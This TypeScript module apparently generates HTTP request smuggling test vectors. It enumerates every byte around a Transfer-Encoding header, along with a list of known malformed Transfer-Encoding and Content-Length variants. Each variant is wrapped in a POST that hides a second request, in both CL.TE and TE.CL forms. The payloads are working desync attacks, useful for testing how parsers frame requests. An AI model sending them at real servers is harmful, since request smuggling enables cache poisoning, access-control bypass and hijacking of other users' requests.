/** A request that two readers may frame differently: `/asked-N`, and in what may be its body or the next request `/smuggled-N`. */
export interface FramingVector {
  readonly what: string;
  readonly bytes: string;
}

const NAME = 'Transfer-Encoding';
const VALUE = 'chunked';
const COLON = ': ';

/**
 * Every byte at every seam of a Transfer-Encoding line, and what else is known to make two parsers disagree; each with a
 * Content-Length before and after it, in both directions (a length that reaches beyond the chunks, and one that ends before them).
 */
export function framingVectors(): FramingVector[] {
  const lines = [...byteLines(), ...KNOWN.map((line) => [line, line] as const)];
  return lines
    .flatMap(([what, line]) => (['before', 'after'] as const).map((place) => ({ what: `${what}, length ${place}`, line, place })))
    .map(({ what, line, place }, n) => ({ what, bytes: (n % 4 < 2 ? longLength : shortLength)(n, line, place) }));
}

/** [what, line] for each byte at each of five places */
function byteLines(): (readonly [string, string])[] {
  const places: readonly [string, (byte: string) => string][] = [
    ['before the name', (byte) => `${byte}${NAME}${COLON}${VALUE}`],
    ['after the name', (byte) => `${NAME}${byte}${COLON}${VALUE}`],
    ['in the name', (byte) => `Transfer${byte}Encoding${COLON}${VALUE}`],
    ['before the value', (byte) => `${NAME}:${byte}${VALUE}`],
    ['after the value', (byte) => `${NAME}${COLON}${VALUE}${byte}`],
  ];
  return places.flatMap(([where, line]) =>
    Array.from({ length: 256 }, (_, code) => {
      const hex = code.toString(16).padStart(2, '0');
      return [`0x${hex} ${where}`, line(String.fromCharCode(code))] as const;
    }),
  );
}

const KNOWN = [
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: identity',
  'Transfer-Encoding: chunked, chunked',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: chunked, gzip',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunkedx',
  'Transfer-Encoding: cow',
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  'Transfer-Encoding: chunked;q=1',
  'Transfer-Encoding: chunked;',
  'Transfer-Encoding: ,chunked',
  'Transfer-Encoding: chunked,',
  'Transfer-Encoding:',
  'Transfer-Encoding: \r\n chunked',
  'Transfer-Encoding\r\n : chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: cow',
  'Transfer-Encoding: cow\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked',
  'X: y\rTransfer-Encoding: chunked',
  'X: y\nTransfer-Encoding: chunked',
  'X: y\r\rTransfer-Encoding: chunked',
  'transfer-encoding: chunked',
  'TRANSFER-ENCODING: CHUNKED',
  'tRANSFER-ENCODING: cHUNKED',
  'Transfer_Encoding: chunked',
  'Transfer Encoding: chunked',
  'Transfer-Encoding : chunked',
  'Content-Encoding: chunked',
  'TE: chunked',
  'Trailer: Transfer-Encoding\r\nTE: trailers',
  'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked',
  'Connection: Content-Length',
  'Content-Length: 0',
  'Content-Length: 1',
  'Content-Length : 1',
  'Content-Length:\t1',
  'Content-Length: 1 1',
  'Content-Length: 01',
  'Content-Length: 1,1',
  'Content-Length: 1e1',
  'Content-Length: -0',
  'content_length: 1',
  'Expect: 100-continue\r\nTransfer-Encoding: chunked',
];

/** By its length one request with a long body; by its chunks an empty one, and another behind it */
function longLength(n: number, line: string, place: 'before' | 'after'): string {
  const body = `0\r\n\r\n${smuggled(n)}`;
  return request(n, line, { place, length: body.length, body });
}

/** By its chunks one request; by its length one that ends before the smuggled one, which then is a request of its own */
function shortLength(n: number, line: string, place: 'before' | 'after'): string {
  const inner = smuggled(n);
  const size = inner.length.toString(16);
  return request(n, line, { place, length: size.length + 2, body: `${size}\r\n${inner}\r\n0\r\n\r\n` });
}

function smuggled(n: number): string {
  return `GET /smuggled-${n} HTTP/1.1\r\nHost: a\r\n\r\n`;
}

function request(
  n: number,
  line: string,
  { place, length, body }: { readonly place: 'before' | 'after'; readonly length: number; readonly body: string },
): string {
  const framing = place === 'before' ? [`Content-Length: ${length}`, line] : [line, `Content-Length: ${length}`];
  return [`POST /asked-${n} HTTP/1.1`, 'Host: a', ...framing, '', body].join('\r\n');
}
